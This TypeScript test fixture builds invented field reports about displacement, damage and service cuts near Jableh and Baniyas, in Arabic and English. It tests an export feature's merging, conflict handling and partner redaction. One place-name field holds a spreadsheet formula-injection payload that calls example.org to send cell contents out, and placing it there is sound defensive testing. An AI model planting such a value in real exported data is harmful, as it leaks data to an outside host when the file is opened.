/**
 * A fixed set of invented reports for the export tests, built the way the desk gets them: ops merged
 * into views. Arabic and English names and narratives; quotes, commas and newlines; formula-like text
 * (`=HYPERLINK(...)`, `-1+2`, a phone number starting with `+`); empty counts; reports with no point;
 * a field in conflict; a deleted report; a duplicate. Villages around Jableh and Baniyas; the people,
 * sources, devices and coordinates are invented.
 */
import { toBase64url } from '../../src/domain/crypto/bytes.ts';
import { encodeHlc, nodeIdOf } from '../../src/domain/hlc.ts';
import { deleteBody, editBody, mergeOps, viewOf, type Authority, type MergedState, type ReportView } from '../../src/domain/merge.ts';
import type { Op } from '../../src/domain/op/op.ts';
import type { FieldName } from '../../src/domain/report.ts';
import { toExportRecord, type DeskFacts, type ExportRecord } from '../../src/export/record.ts';
import { INTERNAL_PROFILE, partnerProfile, DEFAULT_PARTNER_FIELDS } from '../../src/export/profile.ts';
import { deviceId, opId, reportId } from '../ids.ts';
import type { ReportId } from '../../src/domain/ids.ts';

export const EXPORTED_AT = '2025-03-12T08:00:00.000Z';
export const ORGANISATION = 'Sahel Monitors';
export const COORDINATOR = deviceId('desk-base-0001');
const isCoordinator: Authority = (device) => device === COORDINATOR;

/** Fixed keys: the golden files depend on them. */
export const WASH_KEY = toBase64url(new Uint8Array(32).fill(0x11));
export const MAPPING_KEY = toBase64url(new Uint8Array(32).fill(0x22));

/** The default partner profile: public fields, admin-2, ISO weeks. */
export const WASH_PARTNER = partnerProfile({ name: 'wash-partner', key: WASH_KEY });
/** A mapping partner: points on a 5 km grid, admin-3, days, place names and location precision. */
export const MAPPING_PARTNER = partnerProfile({
  name: 'mapping-partner',
  key: MAPPING_KEY,
  fields: [...DEFAULT_PARTNER_FIELDS, 'point', 'locationPrecision', 'placeName'],
  place: { by: 'grid', km: 5, level: 3 },
  dates: 'day',
});
export const PROFILES = [INTERNAL_PROFILE, WASH_PARTNER, MAPPING_PARTNER] as const;

const T0 = Date.UTC(2025, 2, 8, 7, 0, 0);
const MIN = 60_000;

export const IDS = {
  beitYashout: '01957a3c-1f00-7000-8000-0000000000a1',
  einShaqaq: '01957a3c-1f00-7000-8000-0000000000a2',
  baniyasBread: '01957a3c-1f00-7000-8000-0000000000a3',
  rawdaWater: '01957a3c-1f00-7000-8000-0000000000a4',
  dalyehShops: '01957a3c-1f00-7000-8000-0000000000a5',
  qteilbiyyehDeleted: '01957a3c-1f00-7000-8000-0000000000a6',
  alBayda: '01957a3c-1f00-7000-8000-0000000000a7',
  einShaqaqDuplicate: '01957a3c-1f00-7000-8000-0000000000a8',
} as const;

export const DEVICES = {
  jableh1: 'phone-jableh-0001',
  jableh2: 'phone-jableh-0002',
  jableh3: 'phone-jableh-0003',
  baniyas1: 'phone-baniyas-0001',
  baniyas2: 'phone-baniyas-0002',
} as const;

const LATTAKIA = { pcode: 'SY06', en: 'Lattakia', ar: 'اللاذقية' };
const JABLAH = { pcode: 'SY0602', en: 'Jablah', ar: 'جبلة' };
const TARTOUS = { pcode: 'SY10', en: 'Tartous', ar: 'طرطوس' };
const BANYAS = { pcode: 'SY1002', en: 'Banyas', ar: 'بانياس' };

let opCounter = 0;
const seqs = new Map<string, number>();
function op(reportId: ReportId, device: string, minute: number, body: Omit<Op['body'], 'hlc'>, kind: Op['kind']): Op {
  opCounter++;
  const deviceSeq = (seqs.get(device) ?? 0) + 1;
  seqs.set(device, deviceSeq);
  return {
    v: 1,
    id: opId(`01957a3c-2000-7000-8000-${opCounter.toString(16).padStart(12, '0')}`),
    kind,
    reportId,
    device: deviceId(device),
    deviceSeq,
    body: { ...body, hlc: encodeHlc({ wall: T0 + minute * MIN, counter: 0, node: nodeIdOf(device) }) },
  };
}

/** A report's history, op by op, so edits see the state their author saw. */
class History {
  ops: Op[] = [];
  readonly id: ReportId;
  constructor(id: string) {
    this.id = reportId(id);
  }
  state(): MergedState<ReportId> {
    return mergeOps(this.id, this.ops, isCoordinator);
  }
  create(device: string, minute: number, values: Record<string, unknown>): this {
    this.ops.push(op(this.id, device, minute, { changes: values, supersedes: {} }, 'create'));
    return this;
  }
  edit(device: string, minute: number, changes: Partial<Record<FieldName, unknown>>, seen: MergedState = this.state()): this {
    const { changes: c, supersedes } = editBody(seen, changes, 'unused');
    this.ops.push(op(this.id, device, minute, { changes: c, supersedes }, 'edit'));
    return this;
  }
  delete(device: string, minute: number, seen: MergedState = this.state()): this {
    const { changes, supersedes } = deleteBody(seen, 'unused');
    this.ops.push(op(this.id, device, minute, { changes, supersedes }, 'edit'));
    return this;
  }
  view(): ReportView {
    return viewOf(this.state());
  }
}

const beitYashout = new History(IDS.beitYashout)
  .create(DEVICES.jableh1, 10, {
    type: 'displacement',
    eventDate: { precision: 'exact', date: '2025-03-08' },
    placeName: 'بيت ياشوط',
    admin: { adm1: LATTAKIA, adm2: JABLAH, adm3: { pcode: 'SY060205', en: 'Beit Yashout', ar: 'بيت ياشوط' } },
    point: { lat: 35.36214, lon: 36.08417, accuracy: 12 },
    locationPrecision: 'exact',
    narrative:
      'نزحت العائلات من الحارة الشرقية بعد إحراق المنازل، وقال أحد الشهود: "لم يبقَ أحد في الحارة".\nلجأ بعضهم إلى قاعدة حميميم، وآخرون إلى أقارب في جبلة.',
    sourceKind: 'eyewitness',
    sourceDetail: 'مختار القرية، التقاه المراقب في سوق جبلة',
    confidence: 'high',
    households: 35,
    individuals: 160,
    origin: {
      name: 'بيت ياشوط',
      admin: { adm1: LATTAKIA, adm2: JABLAH, adm3: { pcode: 'SY060205', en: 'Beit Yashout', ar: 'بيت ياشوط' } },
    },
    destination: { name: 'قاعدة حميميم', admin: { adm1: LATTAKIA, adm2: JABLAH } },
    shelter: 'military_base',
    displacementCause: 'violence',
    ongoing: true,
  })
  .edit(COORDINATOR, 1500, { verification: 'verified' });

const einShaqaq = new History(IDS.einShaqaq).create(DEVICES.jableh2, 40, {
  type: 'damage',
  eventDate: { precision: 'approximate', date: '2025-03-07' },
  placeName: '=HYPERLINK("http://example.org/?leak="&A1,"Ein Shaqaq")',
  admin: { adm1: LATTAKIA, adm2: JABLAH, adm3: { pcode: 'SY060203', en: 'Ein Shaqaq', ar: 'عين شقاق' } },
  point: { lat: 35.40327, lon: 35.98561, accuracy: 25 },
  locationPrecision: 'approximate',
  narrative: 'Homes on the "upper road" were looted, then burned; neighbours counted 12.\nSome families, it is said, left for Jableh.',
  sourceKind: 'victim',
  sourceDetail: '+963 944 000 000 (owner of a burned house; ask the coordinator before calling)',
  confidence: 'medium',
  structureKind: 'home',
  structures: 12,
  damageLevel: 'destroyed',
  damageCause: 'burning',
  looted: true,
});

const baniyasBread = new History(IDS.baniyasBread).create(DEVICES.baniyas1, 70, {
  type: 'access_cut',
  eventDate: { precision: 'exact', date: '2025-03-08' },
  placeName: 'بانياس، حي القصور',
  admin: { adm1: TARTOUS, adm2: BANYAS, adm3: { pcode: 'SY100200', en: 'Banyas', ar: 'مركز بانياس' } },
  point: { lat: 35.18334, lon: 35.94851 },
  locationPrecision: 'area',
  narrative: 'انقطع الخبز والماء والكهرباء ثلاثة أيام، ولم تصل أي قافلة إلى الحي.',
  sourceKind: 'secondary',
  sourceDetail: 'خبّاز في الحي، يعرفه المراقب منذ سنوات',
  confidence: 'medium',
  service: 'bread',
  serviceState: 'restored',
  period: { since: '2025-03-07', until: '2025-03-10' },
  individuals: 4000,
  cutCause: 'siege',
});

const rawdaWater = new History(IDS.rawdaWater).create(DEVICES.baniyas1, 95, {
  type: 'access_cut',
  eventDate: { precision: 'exact', date: '2025-03-09' },
  placeName: 'Al-Rawda, western quarter',
  admin: { adm1: TARTOUS, adm2: BANYAS, adm3: { pcode: 'SY100201', en: 'Rawda', ar: 'الروضة' } },
  locationPrecision: 'area',
  narrative: '-1+2 water tanks reached the quarter; the main pipe is cut.',
  sourceKind: 'eyewitness',
  sourceDetail: 'Water committee member (name kept at base)',
  confidence: 'low',
  service: 'water',
  serviceState: 'cut',
  period: { since: '2025-03-08' },
  cutCause: 'infrastructure_damage',
});

// A monitor corrects the count while a coordinator, not yet having seen that, corrects it otherwise.
const dalyehShops = new History(IDS.dalyehShops).create(DEVICES.jableh1, 120, {
  type: 'damage',
  eventDate: { precision: 'range', date: '2025-03-06', end: '2025-03-09' },
  placeName: 'دالية',
  admin: { adm1: LATTAKIA, adm2: JABLAH, adm3: { pcode: 'SY060204', en: 'Dalyeh', ar: 'دالية' } },
  point: { lat: 35.4121, lon: 36.0598, accuracy: 40 },
  locationPrecision: 'approximate',
  narrative: 'نُهبت المحلات ثم أُحرقت، ولا أحد يعرف العدد بدقة.',
  sourceKind: 'eyewitness',
  sourceDetail: 'صاحب محل، رقمه عند المنسق',
  confidence: 'medium',
  structureKind: 'shop',
  structures: 10,
  damageLevel: 'severe',
  damageCause: 'looting',
  looted: true,
});
{
  const seen = dalyehShops.state();
  dalyehShops.edit(DEVICES.jableh1, 200, { structures: 8 }, seen).edit(COORDINATOR, 210, { structures: 15 }, seen);
}

// The monitor withdraws a report entered twice; a coordinator, not having seen that, corrects its
// count. The delete did not see the correction, so the report is deleted and in conflict.
const qteilbiyyehDeleted = new History(IDS.qteilbiyyehDeleted).create(DEVICES.jableh2, 130, {
  type: 'displacement',
  eventDate: { precision: 'exact', date: '2025-03-08' },
  admin: { adm1: LATTAKIA, adm2: JABLAH, adm3: { pcode: 'SY060202', en: 'Qteilbiyyeh', ar: 'القطيلبية' } },
  point: { lat: 35.43977, lon: 36.00731 },
  narrative: 'Entered twice by mistake (Qteilbiyyeh).',
  sourceKind: 'eyewitness',
  sourceDetail: 'A shepherd from the hills above the village',
  households: 12,
  individuals: 50,
});
{
  const seen = qteilbiyyehDeleted.state();
  qteilbiyyehDeleted
    .delete(DEVICES.jableh2, 140, seen)
    .edit(
      COORDINATOR,
      145,
      { households: 14, narrative: 'Count corrected after a call with the shepherd; twelve tents on the hill road.' },
      seen,
    );
}

const alBayda = new History(IDS.alBayda).create(DEVICES.baniyas2, 2900, {
  type: 'displacement',
  eventDate: { precision: 'range', date: '2025-03-10', end: '2025-03-12' },
  placeName: 'Al-Bayda',
  admin: { adm1: { en: 'Tartous' }, adm2: { en: 'Banyas', ar: 'بانياس' } },
  narrative: 'Families from Al-Bayda, in the Baniyas countryside, walked to the city; "we left with nothing", one said.',
  sourceKind: 'victim',
  sourceDetail: 'A mother of four met at the collective centre',
  confidence: 'high',
  households: 20,
  origin: { name: 'Al-Bayda', admin: { adm2: { en: 'Banyas' } } },
  destination: {
    name: 'Baniyas city school',
    admin: { adm1: TARTOUS, adm2: BANYAS, adm3: { pcode: 'SY100200', en: 'Banyas', ar: 'مركز بانياس' } },
  },
  shelter: 'collective_centre',
  displacementCause: 'threats',
  ongoing: false,
});

const einShaqaqDuplicate = new History(IDS.einShaqaqDuplicate)
  .create(DEVICES.jableh3, 60, {
    type: 'damage',
    eventDate: { precision: 'exact', date: '2025-03-07' },
    placeName: 'عين شقاق',
    admin: { adm1: LATTAKIA, adm2: JABLAH, adm3: { pcode: 'SY060203', en: 'Ein Shaqaq', ar: 'عين شقاق' } },
    point: { lat: 35.40291, lon: 35.98702, accuracy: 8 },
    locationPrecision: 'exact',
    narrative: 'بيوت محروقة على الطريق العلوي، ١٢ بيتاً تقريباً.',
    sourceKind: 'eyewitness',
    sourceDetail: 'جار الضحايا، قابله المراقب على الحاجز',
    confidence: 'high',
    structureKind: 'home',
    structures: 12,
    damageLevel: 'destroyed',
    damageCause: 'burning',
    looted: true,
  })
  .edit(COORDINATOR, 1600, { verification: 'duplicate', duplicateOf: IDS.einShaqaq });

const HISTORIES = [beitYashout, einShaqaq, baniyasBread, rawdaWater, dalyehShops, qteilbiyyehDeleted, alBayda, einShaqaqDuplicate];

/** Invented photo hashes for one report. */
export const MEDIA = ['9f2c1e0b7a6d5c4b3a29180f7e6d5c4b3a29180f7e6d5c4b3a29180f7e6d5c4b'];

const DESK: Record<string, DeskFacts> = {
  [IDS.einShaqaq]: { media: MEDIA },
};

export const VIEWS: ReportView[] = HISTORIES.map((h) => h.view());

/** What the desk knows: received at base a while after each report's first op, device, organisation. */
export const RECORDS: ExportRecord[] = HISTORIES.map((h) => {
  const create = h.ops[0]!;
  const created = Date.parse(create.body.hlc.slice(0, 24));
  const record = toExportRecord(h.view(), {
    receivedAt: created + 47 * MIN,
    device: create.device,
    organisation: ORGANISATION,
    ...DESK[h.id],
  });
  if (!record) throw new Error(`fixture ${h.id} has no type`);
  return record;
});

/** Text that must never reach a partner under the default profile, per report field. */
export function sensitiveValues(): { what: string; value: string }[] {
  const out: { what: string; value: string }[] = [];
  for (const v of VIEWS) {
    const values = v.values as Record<string, unknown>;
    const add = (what: string, value: unknown) => {
      if (typeof value === 'string' && value !== '') out.push({ what: `${what} of ${v.id}`, value });
    };
    add('id', v.id);
    // Each line alone too: a writer that split a narrative would still leak it line by line.
    if (typeof values.narrative === 'string') for (const line of values.narrative.split('\n')) add('narrative', line);
    add('source detail', values.sourceDetail);
    add('place name', values.placeName);
  }
  for (const d of Object.values(DEVICES)) out.push({ what: 'device', value: d });
  for (const m of MEDIA) out.push({ what: 'media', value: m });
  return out;
}
